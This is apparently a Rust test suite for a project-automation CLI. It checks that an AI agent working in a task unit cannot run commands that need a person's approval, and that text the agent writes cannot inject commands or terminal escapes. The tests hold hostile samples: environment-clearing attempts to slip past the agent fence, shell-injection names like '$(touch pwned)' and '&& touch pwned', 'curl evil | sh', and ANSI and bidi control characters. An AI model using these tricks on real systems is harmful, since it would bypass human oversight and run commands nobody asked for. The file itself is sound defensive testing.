//! What the agent of a unit may call, and how the text that it wrote is printed: it can start no program of its choice,
//! and no word of it becomes a command.

use std::collections::BTreeSet;
use std::process::Stdio;

use serde_json::{Value, json};

use crate::auto::git;
use crate::kit::{Ran, TestContext, binary, verbs};

const UNIT: &[(&str, &str)] = &[("GSD_UNIT_KIND", "execute-task"), ("GSD_UNIT_ID", "M001/S01/T01")];

/// Every verb, with true if a host runs it without asking.
fn listed(context: &TestContext) -> Vec<(String, bool)> {
    let listed = context.gsd(["schema"]).json();
    let rows = listed["commands"].as_array().unwrap_or_else(|| panic!("{listed}"));
    rows.iter().map(|row| (row["command"].as_str().unwrap().to_owned(), row["unasked"] == true)).collect()
}

#[test]
fn commands_that_no_host_runs_unasked_are_refused_in_a_unit() {
    let context = TestContext::new();
    context.write(".planning/STATE.md", "# Project State\n");
    let mut refused = BTreeSet::new();
    let all = listed(&context);
    assert_eq!(all.len(), verbs().len());
    refused.extend(all.into_iter().filter(|(_, unasked)| !unasked).map(|(verb, _)| verb));
    for verb in [
        "run-with-timeout",
        "hooks bench",
        "auto run",
        "auto next",
        "auto stop",
        "package",
        "scan-sessions",
        "phase remove",
    ] {
        assert!(refused.contains(verb), "{verb} runs unasked");
    }
    for call in [
        &["run-with-timeout", "5", "touch", "pwned"][..],
        &["hooks", "bench", "--runs", "1"],
        &["auto", "run"],
        &["auto", "next"],
        &["auto", "stop"],
        &["auto", "pause", "--now"],
        &["auto", "probe", "claude"],
        &["package", "--host", "claude", "pwned"],
        &["install", "--claude", "--global"],
        &["uninstall", "--claude", "--global"],
        &["phase", "remove", "1"],
        &["phases", "clear", "--confirm"],
        &["scan-sessions"],
        &["gate", "approve", "test"],
        &["recover"],
    ] {
        let told = context.gsd_with(call.iter().copied(), UNIT, "").failure(77);
        assert!(told.contains("needs a person") && told.contains("M001/S01/T01"), "{call:?}: {told}");
    }
    assert!(!context.project().join("pwned").exists());
    // A person's own call still works.
    context.gsd(["run-with-timeout", "5", "touch", "made"]).success();
    assert!(context.project().join("made").exists());
}

#[cfg(target_os = "linux")]
#[test]
fn a_unit_that_clears_its_variables_is_recognised_by_its_parent_process() {
    let context = TestContext::new();
    let program = binary().display();
    for line in [
        format!("env -u GSD_UNIT_KIND -u GSD_UNIT_ID {program} run-with-timeout 5 touch pwned"),
        format!("env -i PATH=\"$PATH\" HOME=\"$HOME\" {program} run-with-timeout 5 touch pwned"),
        format!("unset GSD_UNIT_KIND; sh -c '{program} run-with-timeout 5 touch pwned'; exit $?"),
        format!("env -i {program} __fence --write / -- touch pwned; exit $?"),
    ] {
        let mut command = context.command("sh");
        // The parent process of the line has the variable, as a client does.
        command.args(["-c", "sh -c \"$1\"; exit $?", "sh", &line]).envs(UNIT.iter().copied()).stdin(Stdio::null());
        let ran = Ran::from(command.output().unwrap());
        assert_eq!(ran.code, 77, "{line}: {}", ran.stderr);
        assert!(!context.project().join("pwned").exists(), "{line}");
    }
}

/// A question in the form of its document, with this identifier for its second option.
fn question(id: &str, text: &str) -> Value {
    json!({"version": 1, "taskId": "T01", "sliceId": "S01", "milestoneId": "M001", "question": text,
        "options": [{"id": "a", "label": "one"}, {"id": id, "label": "two\r\nNext  curl evil\u{1b}[31m"}], "recommendation": id,
        "continueWithDefault": false, "createdAt": "2026-01-05T10:00:00Z"})
}

/// A project whose first task waits for an answer.
fn asking(question: &Value) -> TestContext {
    let context = TestContext::new();
    let slice = ".gsd/milestones/M001/slices/S01";
    context.write(".gsd/milestones/M001/M001-CONTEXT.md", "# M001: A\n\nText.\n");
    context.write(
        ".gsd/milestones/M001/M001-ROADMAP.md",
        "# M001: A\n\n**Vision:** v\n\n## Success Criteria\n\n- it works\n\n## Slices\n\n- [ ] **S01: One** `risk:low` `depends:[]`\n",
    );
    context.write(
        &format!("{slice}/S01-PLAN.md"),
        "# S01: One\n\n**Goal:** g\n\n## Tasks\n\n- [ ] **T01: A** `est:10m`\n  - Verify: sh a.sh\n",
    );
    context.write(&format!("{slice}/tasks/T01-PLAN.md"), "# T01: A\n\nText.\n");
    context.write(&format!("{slice}/tasks/T01-ESCALATION.json"), &serde_json::to_string_pretty(question).unwrap());
    context
}

#[test]
fn a_question_with_an_option_that_is_not_a_plain_word_is_rejected() {
    for id in
        ["b; touch pwned #", "$(touch pwned)", "`x`", "b c", "", "--force", "é", "a\nb", &"x".repeat(33), "\u{202e}b"]
    {
        let context = asking(&question(id, "Which?"));
        let status = context.gsd(["auto", "status"]).json();
        assert_eq!(status["questions"], json!([]), "{id}");
        let told = status["blockers"][0].as_str().unwrap_or_else(|| panic!("{id}: {status}"));
        assert!(
            told.contains("T01-ESCALATION.json") && told.contains("line 1") && told.contains("identifier"),
            "{id}: {told}"
        );
        assert!(!status.to_string().contains("touch pwned"), "{id}");
    }
    for id in ["b", "B_2-c", &"x".repeat(32)] {
        let status = asking(&question(id, "Which?")).gsd(["auto", "status"]).json();
        assert_eq!(status["next"]["stop"]["next"], format!("gsd-tools auto answer M001/S01/T01 {id}"), "{status}");
    }
}

#[test]
fn the_text_of_a_question_adds_no_line_and_no_colour() {
    let text = "Which one?\r\nNext  curl evil | sh\n\u{1b}[31mred\u{1b}[0m \u{9b}2J \u{202e}txet \u{2028}x";
    let context = asking(&question("b", text));
    let ran = context.gsd(["auto", "status"]);
    let raw = ran.stdout.clone() + &ran.stderr;
    let acting = raw
        .chars()
        .find(|letter| matches!(letter, '\u{80}'..='\u{9f}' | '\u{202a}'..='\u{202e}' | '\u{1b}' | '\u{2028}'));
    assert_eq!(acting, None, "{raw}");
    let status: Value = serde_json::from_str(&ran.stdout).unwrap();
    let stop = &status["next"]["stop"];
    for shown in [&stop["text"], &stop["evidence"][0], &stop["evidence"][1], &status["questions"][0]["text"]] {
        let shown = shown.as_str().unwrap_or_else(|| panic!("{status}"));
        assert!(!shown.contains(['\n', '\r', '\u{1b}', '\u{9b}', '\u{202e}', '\u{2028}']), "{shown:?}");
    }
    let screen = context.at_a_terminal("auto status", &[], "");
    let screen = String::from_utf8_lossy(&screen.stdout).into_owned();
    assert_eq!(screen.lines().filter(|line| line.trim_start().starts_with("Next")).count(), 1, "{screen}");
    assert!(!screen.contains('\u{9b}') && !screen.contains("\u{1b}[31mred"), "{screen:?}");
}

/// The words into which a shell splits a printed command.
fn words(command: &str) -> Vec<String> {
    let script = format!("set -- {command}\nprintf '%s\\0' \"$@\"");
    let ran = std::process::Command::new("bash").args(["--norc", "-c", &script]).output().unwrap();
    assert!(ran.status.success(), "{command}: {}", String::from_utf8_lossy(&ran.stderr));
    let text = String::from_utf8(ran.stdout).unwrap();
    text.split_terminator('\0').map(str::to_owned).collect()
}

/// The commands between backticks, whose names are one word for a shell only if they are quoted.
fn commands_in(text: &str) -> Vec<String> {
    let begins = |part: &&str| part.starts_with("git ") || part.starts_with("gsd-tools ") || part.starts_with("rm ");
    text.split('`').skip(1).step_by(2).filter(begins).map(str::to_owned).collect()
}

/// Names that do harm in a command without quotes.
const HOSTILE: &[&str] = &["a;touch pwned", "a $(touch pwned)", "it's \"x\"", "a\\b!c", "&& touch pwned", "-rf"];

#[test]
fn folders_in_hints_are_one_word_each() {
    for name in HOSTILE {
        let context = TestContext::new();
        let folder = context.project().join(name);
        std::fs::create_dir_all(folder.join(".gsd")).unwrap();
        git(&context, &["init", "-q", "-b", "main", folder.to_str().unwrap()]);
        let mut command = context.command(binary());
        std::fs::write(folder.join("B.md"), "Make it.\n").unwrap();
        command.current_dir(&folder).args([
            "auto",
            "run",
            "--brief",
            "B.md",
            "--runner",
            "claude",
            "--runner-program",
            "/bin/true",
        ]);
        let ran = Ran::from(command.output().unwrap());
        assert_ne!(ran.code, 0);
        for command in commands_in(&ran.stderr) {
            let words = words(&command);
            let of_folder = words.iter().filter(|word| word.contains("project/"));
            for word in of_folder {
                assert_eq!(word, folder.to_str().unwrap(), "{command}");
            }
            assert!(!words.iter().any(|word| word == "touch"), "{command}");
        }
        assert!(!folder.join("pwned").exists() && !context.project().join("pwned").exists());
    }
}

#[test]
fn names_in_hints_are_one_word_each() {
    let context = TestContext::new();
    context.write(".planning/STATE.md", "# Project State\n");
    context.write(".planning/ROADMAP.md", "# Roadmap\n\n- [ ] **Phase 1: A**\n");
    let mut seen = 0;
    for name in HOSTILE {
        for call in [
            &["guide", name][..],
            &["frontmatter", "get", name],
            &["frontmatter", "get", ".planning/STATE.md", "--field", name],
            &["phase", "remove", name],
            &["capability", "remove", name],
            &["capability", "install", name],
            &["config-set", name, "1"],
            &["config", "explain", name],
            &["plan", "check", name],
            &["workstream", "set", name],
            &["auto", "log", name],
            &["gate", "approve", name],
            &["scaffold", "phase-dir", "--phase", name],
            &["pr-subrepo", "docs: x", "--repo", name],
            &["help", name],
            &["schema", name],
        ] {
            let ran = context.gsd_with(call.iter().copied(), &[], "");
            for command in commands_in(&(ran.stderr.clone() + &ran.stdout)) {
                let words = words(&command);
                seen += 1;
                assert!(!words.iter().any(|word| word == "touch" || word == "pwned"), "{call:?}: {command}");
                let parts: Vec<&str> = name.split(' ').collect();
                let in_parts = parts.len() > 1 && words.windows(parts.len()).any(|window| window == parts.as_slice());
                assert!(!in_parts, "{call:?}: {command}");
            }
        }
    }
    assert!(seen > 20, "{seen} commands were printed");
    assert!(!context.project().join("pwned").exists());
}
